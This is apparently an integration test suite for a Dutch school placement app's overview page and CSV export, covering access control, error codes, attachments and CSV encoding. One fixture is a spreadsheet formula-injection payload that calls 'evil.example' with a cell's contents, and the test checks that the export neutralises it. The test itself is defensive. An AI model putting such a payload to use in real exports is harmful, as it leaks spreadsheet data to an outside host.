import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../../functions/http/app.tsx';
import { getForm } from '../../../forms/index.ts';
import { getPeriod, getSchoolYear } from '../../../shared/calendar.ts';
import { formItems, type FormDefinition } from '../../../shared/forms/definition.ts';
import { createRequest } from '../../../shared/usecases/observation.ts';
import type { Placement } from '../../../shared/roster/placement.ts';
import type { RequestRecord } from '../../../shared/model/requests.ts';
import { PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { appDeps } from '../../support/app.ts';
import { waitForScanTag } from '../../support/malware.ts';
import { freshBucket, freshTable, localClients } from '../../support/aws.ts';
import { getWithSession, movableClock, signIn, staffPlacement } from '../../support/staff.ts';

const YEAR = '2025-2026';
const choice = { year: getSchoolYear(YEAR)!, period: getPeriod(YEAR, 1)! };
const NASTY = 'Punt; komma, "aanhalingstekens"\r\nnieuwe regel 🎉 en Zoë';
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1;"klik")';

describe('the period overview and its CSV, over the real SDK and the local stand-ins', () => {
  const clock = movableClock('2025-11-10T09:00');
  let app: ReturnType<typeof createApp>;
  let deps: ReturnType<typeof appDeps>;
  let bucket: string;
  let s3: S3Client;
  /** A lesson plan as a PDF starts (the local ClamAV tagger scans it as clean). */
  const LESPLAN = '%PDF-1.4\n% lesplan week 46\n%%EOF\n';
  const sessions: Record<string, string> = {};
  let kijkwijzer: RequestRecord;

  async function submit(p: Placement, formId: string, answers: (def: FormDefinition) => Record<string, string>, status: 'ingediend' | 'concept' = 'ingediend') {
    const request = await createRequest(deps, p, { formId, observerRole: 'wpb', lessonDate: '2025-11-05' }, { origin: 'student', choice });
    const def = getForm(formId)!;
    await deps.requests.saveVersion(request, 0, {
      formId,
      formVersion: def.version,
      answers: answers(def),
      status,
      savedAt: clock.now().toString(),
      savedBy: p.wpb.email,
      attachments: [],
    });
    return (await deps.requests.get(p.schoolYear, p.studentNumber, request.requestId))!;
  }

  const scored = (value: string) => (def: FormDefinition) =>
    Object.fromEntries(formItems(def).map((item) => [item.code, item.type === 'scale' ? value : item.type === 'text' ? `tekst ${item.code}` : '2025-11-05']));

  beforeAll(async () => {
    const clients = localClients();
    bucket = await freshBucket(clients);
    s3 = clients.s3;
    deps = appDeps(clients, { tableName: await freshTable(clients), bucket }, clock, { adminEmails: ['admin.ov@hr.example.nl'] });
    app = createApp({ ...deps, signInRateLimits: { perAddress: 1000, perClient: 1000 } });
    const zoe = staffPlacement('810001', 'a');
    const quiet = staffPlacement('810002', 'a', { student: { name: 'Bram Stil', email: 'bram@student.example.nl' } });
    const other = staffPlacement('810003', 'b', { school: 'Erasmiaans Gymnasium', student: { name: 'Piet Anders', email: 'piet@student.example.nl' } });
    for (const p of [zoe, quiet, other]) await deps.placements.create(p, clock.now().toString());

    kijkwijzer = await submit(zoe, 'kijkwijzer-pedagogiek', (def) => ({ ...scored('matig')(def), FEEDBACK: NASTY, FEEDUP: FORMULA, FEEDFORWARD: '-5 punten; +3 @ziek' }));
    await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'attachments/x.pdf', Body: LESPLAN, ContentType: 'application/pdf' }));
    await deps.requests.addAttachment(kijkwijzer, { id: 'AAAAAAAAAAAAAAAAAAAAAA', key: 'attachments/x.pdf', name: 'lesplan.pdf', size: LESPLAN.length, type: 'application/pdf', addedAt: clock.now().toString() });
    await submit(zoe, 'advies-wpb', (def) => ({ ...scored('')(def), 'ADV-ADVIES': 'positief' }));
    await submit(quiet, 'kijkwijzer-didactiek', scored('goed'), 'concept');
    await submit(other, 'kijkwijzer-pedagogiek', scored('goed'));

    sessions.ioA = await signIn(app, 'io.a@hr.example.nl');
    sessions.ioB = await signIn(app, 'io.b@hr.example.nl');
    sessions.soA = await signIn(app, 'so.a@wolfert.example.nl');
    sessions.admin = await signIn(app, 'admin.ov@hr.example.nl');
  });

  it("shows an IO only their own students, with each form's state, what is missing and the deadline", async () => {
    const response = await getWithSession(app, '/overzicht', sessions.ioA!);

    expect(response.status).toBe(200);
    const text = await response.text();
    expect(text).toContain('periode 1 (OP1), schooljaar 2025-2026');
    expect(text).toContain('woensdag 12 november 2025');
    expect(text).toContain('data-student="810001"');
    expect(text).toContain('data-student="810002"');
    expect(text).not.toContain('810003');
    expect(text).toContain('state-ingediend');
    expect(text).toContain('state-concept');
    // Due by the end of OP3 (the 2025-2026 rule): in OP1 still to do, never "ontbreekt".
    expect(text).toContain('nog nodig vóór einde OP3</span> didactiek en vakdidactiek');
    expect(text).not.toContain('state-ontbreekt">ontbreekt</span> didactiek');
    expect(text).toContain(`/overzicht/formulier/${YEAR}/810001/${kijkwijzer.requestId}`);
  });

  it('flags a positive advice against mostly-below-voldoende kijkwijzers, and a student with nothing in', async () => {
    const text = await (await getWithSession(app, '/overzicht', sessions.ioA!)).text();
    const rowOf = (nr: string) => text.split('<tr ').find((part) => part.startsWith(`data-student="${nr}"`))!.split('</tr>')[0]!;
    const zoeRow = rowOf('810001');
    const quietRow = rowOf('810002');

    expect(zoeRow).toContain('Positief advies, maar de meeste scores');
    expect(zoeRow).not.toContain('Niets ingediend');
    expect(quietRow).toContain('Niets ingediend deze periode.');
  });

  it('filters by state', async () => {
    const text = await (await getWithSession(app, '/overzicht?status=signaal', sessions.ioA!)).text();

    expect(text).toContain('data-student="810001"');
    expect(text).not.toContain('data-student="810002"');
  });

  it("shows an SO their school's students and an admin every student", async () => {
    const so = await (await getWithSession(app, '/overzicht', sessions.soA!)).text();
    const admin = await (await getWithSession(app, '/overzicht', sessions.admin!)).text();

    expect(so).toContain('data-student="810001"');
    expect(so).not.toContain('data-student="810003"');
    expect(admin).toContain('data-student="810003"');
  });

  it('answers a year or period that does not exist with a Dutch 404, and a malformed one with a 400', async () => {
    const unknownYear = await getWithSession(app, '/overzicht?jaar=2030-2031&periode=1', sessions.ioA!);
    const unknownPeriod = await getWithSession(app, '/overzicht?jaar=2025-2026&periode=5', sessions.ioA!);

    expect(unknownYear.status).toBe(404);
    expect(await unknownYear.text()).toContain('Schooljaar 2030-2031 bestaat niet');
    expect(unknownPeriod.status).toBe(404);
    expect((await getWithSession(app, '/overzicht?jaar=vorig-jaar', sessions.ioA!)).status).toBe(400);
    expect((await getWithSession(app, '/overzicht?periode=twee', sessions.ioA!)).status).toBe(400);
    expect((await getWithSession(app, '/overzicht/export.csv?jaar=2030-2031&periode=1', sessions.ioA!)).status).toBe(404);
  });

  it("refuses an IO another IO's student, school or CSV with 403", async () => {
    const other = (await deps.requests.listForPlacement(YEAR, '810003'))[0]!;

    expect((await getWithSession(app, `/overzicht/formulier/${YEAR}/810003/${other.requestId}`, sessions.ioA!)).status).toBe(403);
    expect((await getWithSession(app, `/overzicht?school=${encodeURIComponent('Erasmiaans Gymnasium')}`, sessions.ioA!)).status).toBe(403);
    expect((await getWithSession(app, `/overzicht/export.csv?school=${encodeURIComponent('Erasmiaans Gymnasium')}`, sessions.ioA!)).status).toBe(403);
    expect((await getWithSession(app, `/overzicht/formulier/${YEAR}/810001/${kijkwijzer.requestId}`, sessions.ioB!)).status).toBe(403);
    expect((await getWithSession(app, `/overzicht/bijlage/${YEAR}/810001/${kijkwijzer.requestId}/AAAAAAAAAAAAAAAAAAAAAA`, sessions.ioB!)).status).toBe(403);
  });

  it('shows a submission read-only with its version history and attachments, downloaded through the app', async () => {
    const page = await getWithSession(app, `/overzicht/formulier/${YEAR}/810001/${kijkwijzer.requestId}`, sessions.ioA!);

    expect(page.status).toBe(200);
    const text = await page.text();
    expect(text).toContain('Kijkwijzer pedagogiek');
    expect(text).toContain('Punt; komma, &quot;aanhalingstekens&quot;');
    expect(text).toContain('1 (getoond)');
    expect(text).toContain('lesplan.pdf');
    expect(text).not.toContain('<form method="post" action="/f/');
    expect(await waitForScanTag(s3, bucket, 'attachments/x.pdf')).toBe('NO_THREATS_FOUND');
    const download = await getWithSession(app, `/overzicht/bijlage/${YEAR}/810001/${kijkwijzer.requestId}/AAAAAAAAAAAAAAAAAAAAAA`, sessions.ioA!);
    expect(download.status).toBe(200);
    expect(await download.text()).toBe(LESPLAN);
    expect((await app.request(`/overzicht/bijlage/${YEAR}/810001/${kijkwijzer.requestId}/AAAAAAAAAAAAAAAAAAAAAA`)).status).toBe(303);
  });

  it('exports the period as CSV that Dutch Excel reads back intact, formulas neutralised', async () => {
    const response = await getWithSession(app, '/overzicht/export.csv?jaar=2025-2026&periode=1', sessions.ioA!);

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="werkplekleren-2025-2026-OP1.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text).not.toMatch(/^\uFEFF?sep=/);
    expect(text.split('\r\n')[0]).toMatch(/^\uFEFFschooljaar;periode;studentnummer;student;school;vak;formulier;versie;observator rol;observator naam;observator e-mail;lesdatum;ingediend op;/);

    const records: Record<string, string>[] = parse(bytes, { bom: true, delimiter: ';', columns: true, record_delimiter: '\r\n' });
    expect(records).toHaveLength(2);
    expect(records.map((r) => r.studentnummer)).toEqual(['810001', '810001']);
    const row = records.find((r) => r.formulier === 'Kijkwijzer pedagogiek')!;
    expect(row.student).toBe('Zoë de Vries');
    expect(row['observator naam']).toBe("Jan van 't Hek");
    expect(row['ingediend op']).toBe('2025-11-10 09:00');
    expect(row.lesdatum).toBe('2025-11-05');
    expect(row.versie).toBe('1');
    const column = (code: string) => Object.keys(row).find((header) => header.startsWith(`${code} `))!;
    expect(row[column('FEEDBACK')]).toBe(NASTY);
    expect(row[column('FEEDUP')]).toBe(`'${FORMULA}`);
    expect(row[column('FEEDFORWARD')]).toBe("'-5 punten; +3 @ziek");
    expect(row[column('PED-1')]).toBe('matig');
    expect(row.bijlagen).toBe('');
    const headers = Object.keys(row);
    expect(headers.indexOf(column('PED-1'))).toBeLessThan(headers.indexOf(column('FEEDBACK')));
  });

  it('exports with commas on request', async () => {
    const response = await getWithSession(app, '/overzicht/export.csv?jaar=2025-2026&periode=1&scheiding=,', sessions.admin!);

    const records: Record<string, string>[] = parse(new Uint8Array(await response.arrayBuffer()), { bom: true, delimiter: ',', columns: true });
    expect(records.map((r) => r.studentnummer).sort()).toEqual(['810001', '810001', '810003']);
    expect((await getWithSession(app, '/overzicht/export.csv?scheiding=|', sessions.admin!)).status).toBe(400);
  });

  it('sends a visitor without a session from the CSV to the sign-in page', async () => {
    const response = await app.request('/overzicht/export.csv');

    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe('/inloggen');
  });
});
